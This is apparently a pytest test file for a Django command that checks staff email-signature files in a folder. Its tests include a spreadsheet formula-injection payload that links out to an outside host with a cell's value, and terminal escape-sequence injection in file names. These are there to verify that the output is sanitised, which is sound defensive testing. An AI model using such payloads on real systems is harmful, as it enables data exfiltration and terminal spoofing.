"""`manage.py check_signatures`: a line for each finding in a folder of files."""

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from tests.factories.people import make_staff

pytestmark = pytest.mark.django_db

CLEAN = "Elena Rivera\nGrade 3 Teacher\nelena.rivera@larkspur.example\n"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    for given, family in (("Elena", "Rivera"), ("Ben", "Otter")):
        make_staff(
            given_name=given,
            family_name=family,
            title="Grade 3 Teacher",
            email=f"{given}.{family}@larkspur.example".lower(),
        )
    files = {
        "elena.rivera.txt": CLEAN,
        "school/ben.otter.htm": f'<body background="x.png"><p>{CLEAN}</p>',
        "by its address.txt": CLEAN.replace("Rivera\n", "Brightwater\n"),
        "nobody.txt": "Ana Ruiz\nSchool Counselor\nana@school.example.net\n",
        "sent.eml": "From: a@larkspur.example\n\nSee you\n",
        "scan.png": "\x89PNG",
        "elena.rivera.rtf": "{\\rtf the same once more}",
        "school/ben.otter_files/filelist.xml": "<xml/>",
        "school/ben.otter_files/image001.png": "\x89PNG",
        "list.csv": "a,b",
    }
    for name, text in files.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode("latin-1"))
    return tmp_path


def printed(*args: Any) -> str:
    out = io.StringIO()
    call_command("check_signatures", *args, stdout=out)
    return out.getvalue()


def test_no_cell_is_a_formula(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://img.example.net/?x="&A1) \u0415lena Rivera\nTeacher\na@b.example'
    (tmp_path / "=cmd.txt").write_text(formula)
    rows = list(csv.reader(io.StringIO(printed(str(tmp_path), "--csv"))))
    assert len(rows) > 1
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_no_line_commands_a_terminal(tmp_path: Path) -> None:
    (tmp_path / "\x1b[31m.txt").write_text("\x1b]0;x\x07Elena \x1b[31m elena@gmail.com\n")
    assert "\x1b" not in printed(str(tmp_path))


def test_a_file_that_cannot_be_read_leaves_the_others(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    opened = Path.open

    def refused(path: Path, *args: Any, **options: Any) -> Any:
        if path.name == "nobody.txt":
            raise PermissionError
        return opened(path, *args, **options)

    monkeypatch.setattr(Path, "open", refused)
    told = printed(str(folder))
    assert "nobody.txt  not-readable" in told
    assert "Files: 6." in told


def test_the_number_of_files_costs_no_queries(
    folder: Path, django_assert_max_num_queries: Any
) -> None:
    for number in range(20):
        (folder / f"elena.rivera@larkspur.example-{number}.txt").write_text(CLEAN)
    with django_assert_max_num_queries(15):
        printed(str(folder))


def test_what_is_no_folder_is_said(tmp_path: Path) -> None:
    with pytest.raises(CommandError, match="is no folder"):
        printed(str(tmp_path / "nowhere"))
